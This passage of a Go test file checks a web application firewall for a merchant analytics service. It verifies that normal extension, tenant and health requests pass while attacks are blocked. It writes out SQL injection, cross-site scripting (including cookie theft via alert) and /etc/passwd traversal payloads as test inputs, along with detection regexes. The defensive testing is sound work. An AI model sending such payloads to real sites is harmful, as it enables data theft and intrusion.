	{name: "crx sync", target: "/api/v1/data/crx/sync", body: `{"client_batch_id":"3f2c1e9a-5b7d-4c1e-8f00-2a9b6c4d7e11","extension_version":"1.4.2","items":[{"metric_key":"gmv","shop_id":"3","value":12873.5,"collected_at":"2026-11-02T09:30:00Z","page_url":"https://sycm.taobao.com/portal/home.htm?dateRange=2026-11-01%7C2026-11-01&dateType=day","dims":{"channel":"search","device":"mobile"}},{"metric_key":"visitors","platform_shop_id":"tb_10086","value":5321,"collected_at":"2026-11-02T09:30:00Z"}]}`},
	{name: "crx adhoc", target: "/api/v1/data/crx/adhoc", body: `{"client_id":"9d3b8f1e-2c4a-4e6b-9a1d-7f0e5c3b2a19","page_url":"https://item.jd.com/100012043978.html","page_title":"【京东自营】Apple iPhone 16 Pro 256GB - 京东","platform":"jd","collected_at":"2026-11-02T09:31:00Z","data":{"price":"¥7,999.00","title":"Apple iPhone 16 Pro (A3294) 256GB 沙漠色钛金属","sales":"20万+ 条评价","table":[["规格","256GB"],["颜色","沙漠色"]],"promo":"满 5000 减 300 & 12 期免息"}}`},
	{name: "crx log error", target: "/api/v1/log/error", body: `{"level":"error","message":"TypeError: Cannot read properties of undefined (reading 'gmv')","stack":"TypeError: Cannot read properties of undefined (reading 'gmv')\n    at parseMetric (chrome-extension://abcdefghijklmnop/content.js:120:17)\n    at Array.map (<anonymous>)\n    at collect (chrome-extension://abcdefghijklmnop/content.js:88:9)","extension_version":"1.4.2","url":"https://sycm.taobao.com/portal/home.htm","user_agent":"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36","occurred_at":"2026-11-02T09:32:00Z","context":{"action":"collect_metric_data","sync_status":"idle","queue_length":3}}`},
	{name: "identity headers and cookies", target: "/tenant/api/v1/tenant/auth/info", headers: map[string]string{"Cookie": "sm_lang=zh-CN; sm_theme=dark", "X-Env": "test", "Origin": "https://app.shopmind.cn", "Referer": "https://app.shopmind.cn/analysis/dashboard?tab=sales&range=7d"}},
	{name: "local env prefix", target: "/local/tenant/api/v1/tenant/auth/info"},
	{name: "versioned accept", target: "/api/v1/sessions", headers: map[string]string{"Accept": "application/vnd.shopmind.v2+json"}},
	{name: "cors preflight", target: "/api/v1/basic/goods/list", method: "OPTIONS", headers: map[string]string{"Origin": "https://app.shopmind.cn", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization,content-type"}},
	// Requests of the tenant acceptance tests (services/tenant).
	{name: "tenant login empty username", target: "/tenant/api/v1/tenant/auth/login", body: `{"tenant_code":"demo","username":"","password":"x"}`},
	{name: "tenant login captcha id only", target: "/tenant/api/v1/tenant/auth/login", body: `{"tenant_code":"demo","username":"admin","password":"x","captcha_id":"only-id"}`},
	{name: "tenant favorites", target: "/tenant/api/v1/tenant/auth/favorite", body: `{"favorites":[{"type":"goods","target_key":"g1","title":"G1"},{"type":"menu","target_key":"k7","title":"t"}]}`},
	{name: "tenant role with permissions", target: "/tenant/api/v1/tenant/roles", body: `{"code":"ops","name":"Operations","permission_codes":["basic:goods:list","tenant:user:list","no:such:perm"],"menu_ids":[999999]}`},
	{name: "tenant role bad code", target: "/tenant/api/v1/tenant/roles", body: `{"code":"Bad Code","name":"X"}`},
	{name: "tenant role update mask", target: "/tenant/api/v1/tenant/roles/999999", method: "PUT", body: `{"name":"x","update_mask":"name"}`},
	{name: "healthz", target: "/healthz"},
	{name: "readyz", target: "/readyz"},
	{name: "metrics", target: "/metrics"},
}

// TestWAFPassesShopMindTraffic: at the default paranoia level (1) no legitimate request is
// blocked. At level 2 the free-text fields (chat messages, URLs, sort specs) trip PL2 rules;
// the count is reported (WAF.md), not asserted.
func TestWAFPassesShopMindTraffic(t *testing.T) {
	// Level 1 with no exclusion; level 2 with the level-1-only arguments (wafExclusions).
	for _, level := range []int{1, 2} {
		h := wafTestHandler(t, level)
		for _, c := range wafLegitimate {
			t.Run(fmt.Sprintf("PL%d/%s", level, c.name), func(t *testing.T) {
				rec := httptest.NewRecorder()
				h.ServeHTTP(rec, c.build())
				if rec.Header().Get("X-Test-Handler") != "reached" {
					t.Fatalf("blocked: %d %s", rec.Code, rec.Body)
				}
				if got := rec.Header().Get("X-Test-Body"); got != strconv.Itoa(len(c.body)) {
					t.Fatalf("handler read %s body bytes, want %d", got, len(c.body))
				}
			})
		}
	}
}

// The level-1-only arguments still get the level-1 rules at level 2: an attack in a chat
// message or a sort spec is blocked.
func TestWAFLevel1OnlyArgumentsStillInspected(t *testing.T) {
	h := wafTestHandler(t, 2)
	for _, c := range []struct{ name, method, target, body string }{
		{"chat message", "POST", "/api/v2/chat/message", `{"message":"1' UNION SELECT password FROM users --"}`},
		{"chat message xss", "POST", "/api/v2/chat/message", `{"message":"<script>alert(document.cookie)</script>"}`},
		{"sort", "GET", "/basic/api/v1/basic/goods?sort=1%20union%20select%20password%20from%20users--", ""},
		{"page data", "POST", "/api/v1/data/crx/adhoc", `{"page_url":"https://x.cn","data":{"title":"<img src=x onerror=alert(1)>"}}`},
	} {
		r := httptest.NewRequest(c.method, c.target, strings.NewReader(c.body))
		if c.body != "" {
			r.Header.Set("Content-Type", "application/json")
		}
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		if rec.Code != 403 {
			t.Errorf("%s: %d, want 403", c.name, rec.Code)
		}
	}
}

// TestWAFOperatorsMatchCoraza: ShopMind's detection operators (result cache, literal
// pre-filter) give exactly the matches of Coraza's own on every case of the regression
// corpus (the cases of every loaded rule file, paranoia level 4 so that every rule runs), with the cache cold and
// then warm (every rule file loaded; the first sight of each value exercises the pre-filter
// alone).
func TestWAFOperatorsMatchCoraza(t *testing.T) {
	if testing.Short() {
		t.Skip("CRS corpus: long")
	}
	loaded := map[int]bool{}
	for _, g := range wafGroups {
		n, _ := strconv.Atoi(g[len("REQUEST-") : len("REQUEST-")+3])
		loaded[n] = true
	}
	var cases []crsCase
	for _, c := range loadCRSCasesOf(t, true) {
		if loaded[c.ruleID/1000] {
			cases = append(cases, c)
		}
	}
	reference := runCRSCorpus(t, cases, 4, profileCorazaOperators)
	m, err := newWAF(waf.Config{Enabled: true, ParanoiaLevel: 4, AnomalyThreshold: waf.DefaultAnomalyThreshold, BodyLimit: waf.DefaultBodyLimit},
		profileShopMind, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	for _, pass := range []string{"cold", "warm"} { // one WAF: its caches are its own
		ours := runCRSCorpusOn(m, cases, 4)
		diffs := 0
		for _, c := range cases {
			a, b := slices.Clone(ours[c.name].matched), slices.Clone(reference[c.name].matched)
			slices.Sort(a)
			slices.Sort(b)
			if !slices.Equal(a, b) || ours[c.name].outcome != reference[c.name].outcome {
				diffs++
				if diffs <= 20 {
					t.Errorf("%s (%s cache): matched %v, Coraza's operators %v", c.name, pass, a, b)
				}
			}
		}
		t.Logf("%s cache: %d cases, %d differ", pass, len(cases), diffs)
	}
}

// TestWAFOperatorRewrite: every detection operator of the loaded rule files is ShopMind's, and
// no logdata is left.
func TestWAFOperatorRewrite(t *testing.T) {
	for _, g := range append(slices.Clone(wafGroups), "REQUEST-949-BLOCKING-EVALUATION") {
		data, err := crsFS{}.ReadFile("@owasp_crs/" + g + ".conf")
		if err != nil {
			t.Fatal(err)
		}
		for _, op := range []string{"@rx ", "@detectSQLi", "@detectXSS", "logdata:"} {
			if n := strings.Count(string(data), op); n > 0 {
				t.Errorf("%s: %d %q operators left", g, n, op)
			}
		}
	}
}

func TestWAFRxRequired(t *testing.T) {
	for _, c := range []struct {
		pattern string
		want    []string
	}{
		{`(?i)<script`, []string{"<script"}},
		{`(?i)union.*?select.*?from`, []string{"select"}},
		{`a|bc`, []string{"a", "bc"}},
		{`(?:foo)?bar+`, []string{"ba"}},
		{`x*`, nil},
		{`[a-z]+`, nil},
		{`(?i)éa`, nil}, // non-ASCII literals give no pre-filter
	} {
		re, err := syntax.Parse("(?sm)"+c.pattern, syntax.Perl)
		if err != nil {
			t.Fatal(err)
		}
		got, _ := rxRequired(re.Simplify())
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: %q, want %q", c.pattern, got, c.want)
		}
	}
	// Case folding: the long s and the Kelvin sign fold to s and k.
	if !containsAnyFolded("<ſcript>", []string{"<script"}) || !containsAnyFolded("\u212aeep", []string{"keep"}) {
		t.Error("folded runes not matched")
	}
	if containsAnyFolded("hello", []string{"<script"}) || !containsAnyFolded("<SCRIPT", []string{"<script"}) {
		t.Error("ASCII folding")
	}
}

// TestWAFBodyTooLarge: a body over the inspection limit is refused with the 413 envelope
// (declared length or streamed), not the 403 of a detection; one at the limit passes.
func TestWAFBodyTooLarge(t *testing.T) {
	cfg := waf.Config{Enabled: true, ParanoiaLevel: 1, AnomalyThreshold: 5, BodyLimit: 64}
	m, err := New(cfg, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	h := wafHandler(m, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Header().Set("X-Test-Handler", "reached") }), nil)
	body := `{"note":"` + strings.Repeat("a", 60) + `"}`
	for _, c := range []struct {
		name   string
		length int64
	}{{"declared", int64(len(body))}, {"streamed", -1}} {
		r := httptest.NewRequest("POST", "/api/v1/log/error", strings.NewReader(body))
		r.Header.Set("Content-Type", "application/json")
		r.ContentLength = c.length
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		if rec.Code != http.StatusRequestEntityTooLarge || !strings.HasPrefix(rec.Body.String(), `{"code":413,`) || rec.Header().Get("X-Test-Handler") != "" {
			t.Errorf("%s: %d %s", c.name, rec.Code, rec.Body)
		}
	}
	r := httptest.NewRequest("POST", "/api/v1/log/error", strings.NewReader(`{"note":"ok"}`))
	r.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, r)
	if rec.Header().Get("X-Test-Handler") != "reached" {
		t.Errorf("small body: %d %s", rec.Code, rec.Body)
	}
}

// wafHandler puts m in front of next as the gateway's adapter does (gateway.WAF): a block is
// answered 403, a body too large 413, each with an envelope; observe, when set, sees the ids
// of the rules the request matched before the answer is written.
func wafHandler(m *WAF, next http.Handler, observe func(w http.ResponseWriter, matched []int)) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var matched *[]int
		if observe != nil {
			matched = new([]int)
		}
		v := m.inspect(r, matched)
		if observe != nil {
			observe(w, *matched)
		}
		status := http.StatusForbidden
		switch {
		case v.TooLarge:
			status = http.StatusRequestEntityTooLarge
		case !v.Blocked:
			next.ServeHTTP(w, r)
			return
		}
		body, _ := json.Marshal(map[string]any{"code": status, "message": v.Message, "data": nil})
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_, _ = w.Write(body)
	})
}

// A signed token's random characters can read like an attack: a JWT whose signature starts
// with "cvs" holds ".cvs", an OS file name to rule 930120 (a refresh in the reliability suite
// was blocked so). The contract marks token fields TEXT_KIND_CREDENTIAL, which no rule
// inspects; the same bytes in any other field are still blocked.
func TestWAFLeavesCredentialsAlone(t *testing.T) {
	const token = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIiwidHlwIjoicmVmcmVzaCJ9.cvsQe-2Q2mXl_3tYcBv1wAx"
	for _, level := range []int{1, 2} {
		h := wafTestHandler(t, level)
		for _, c := range []struct {
			name, target, body string
			want               int
		}{
			{"refresh", "/tenant/api/v1/tenant/auth/refresh", `{"refresh_token":"` + token + `"}`, 200},
			{"refresh v2 path", "/api/v1/auth/refresh", `{"refresh_token":"` + token + `"}`, 200},
			{"the same bytes in another field", "/api/v1/tenant/auth/refresh", `{"refresh_token":"x","device":"` + token + `"}`, 403},
		} {
			r := httptest.NewRequest("POST", c.target, strings.NewReader(c.body))
			r.Header.Set("Content-Type", "application/json")
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, r)
			if rec.Code != c.want {
				t.Errorf("level %d, %s: %d %s, want %d", level, c.name, rec.Code, rec.Body, c.want)
			}
		}
	}
}

// A merchant whose back office is on an intranet host (an IP address, localhost) uploads
// values read on it: the URL fields the contract marks TEXT_KIND_URL (a page the value was
// read on, the extension's URL patterns, the page data) are stored, never fetched, so the
// remote-file-inclusion and SSRF rules (931100, 934110: a URL with an IP address or
// localhost) leave them alone at every level; the same URLs anywhere else, and attacks of
// every other class in those fields, are still blocked.
func TestWAFPassesIntranetURLs(t *testing.T) {
	const item = `{"metric_key":"gmv","shop_id":"3","value":1.5,"collected_at":"2026-11-02T09:30:00Z","page_url":%q}`
	pass := []struct{ name, method, target, body string }{
		{"sync ip", "POST", "/api/v1/data/crx/sync", `{"client_batch_id":"3f2c1e9a-5b7d-4c1e-8f00-2a9b6c4d7e11","items":[` + fmt.Sprintf(item, "http://127.0.0.1:8081/backoffice") + `]}`},
		{"sync localhost", "POST", "/api/v1/data/crx/sync", `{"client_batch_id":"3f2c1e9a-5b7d-4c1e-8f00-2a9b6c4d7e11","items":[` + fmt.Sprintf(item, "http://localhost/x") + `,` + fmt.Sprintf(item, "http://10.1.2.3/erp/report?day=1") + `]}`},
		{"adhoc", "POST", "/api/v1/data/crx/adhoc", `{"client_id":"9d3b8f1e-2c4a-4e6b-9a1d-7f0e5c3b2a19","page_url":"http://192.168.1.20:8080/orders","collected_at":"2026-11-02T09:31:00Z","data":{"link":"http://localhost/x","rows":[["next","http://127.0.0.1:8081/backoffice?page=2"]]}}`},
		{"log error", "POST", "/api/v1/log/error", `{"level":"error","message":"failed","url":"http://127.0.0.1:8081/backoffice"}`},
		{"tenant config", "PUT", "/api/v1/crx/config-m", `{"metrics":[{"key":"gmv","name":"GMV","platform":"erp","url_pattern":"http://127.0.0.1:8081/backoffice","source":"api","api_url_pattern":"http://localhost/api/gmv","json_path":"$.gmv","interval_seconds":60}],"upload":{"batch_size":100,"interval_seconds":60,"max_concurrent_tabs":1}}`},
	}
	block := []struct{ name, method, target, body string }{
		{"ip url in another field", "POST", "/api/v1/data/crx/sync", `{"client_batch_id":"3f2c1e9a-5b7d-4c1e-8f00-2a9b6c4d7e11","items":[{"metric_key":"gmv","platform_shop_id":"http://127.0.0.1/x","value":1}]}`},
		{"localhost in a query", "GET", "/api/v1/data/crx/ver?current_version=http://localhost/x", ""},
		{"sqli in page_url", "POST", "/api/v1/data/crx/adhoc", `{"page_url":"http://127.0.0.1/x' UNION SELECT password FROM users --","data":{}}`},
		{"xss in page data", "POST", "/api/v1/data/crx/adhoc", `{"page_url":"http://localhost/","data":{"u":"http://localhost/<script>alert(1)</script>"}}`},
		{"traversal in url", "POST", "/api/v1/log/error", `{"level":"error","message":"m","url":"http://127.0.0.1/../../../../etc/passwd"}`},
	}
	for _, level := range []int{1, 2} {
		h := wafTestHandler(t, level)
		for _, set := range []struct {
			cases   []struct{ name, method, target, body string }
			blocked bool
		}{{pass, false}, {block, true}} {
			for _, c := range set.cases {
				r := httptest.NewRequest(c.method, c.target, strings.NewReader(c.body))
				if c.body != "" {
					r.Header.Set("Content-Type", "application/json")
				}
				rec := httptest.NewRecorder()
				h.ServeHTTP(rec, r)
				if blocked := rec.Code == 403; blocked != set.blocked {
					t.Errorf("PL%d %s: %d %s, want blocked=%v", level, c.name, rec.Code, rec.Body, set.blocked)
				}
			}
		}
	}
}
